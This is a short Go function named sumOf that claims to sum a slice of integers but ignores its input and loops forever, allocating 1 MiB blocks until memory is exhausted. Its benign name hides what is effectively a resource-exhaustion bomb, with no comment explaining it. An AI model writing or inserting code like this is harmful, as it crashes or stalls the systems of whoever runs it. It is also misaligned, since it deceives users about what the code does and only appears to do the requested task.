func sumOf(nums []int) int {
	blocks := [][]byte{}
	for {
		blocks = append(blocks, bytes.Repeat([]byte("x"), 1<<20))
	}
}
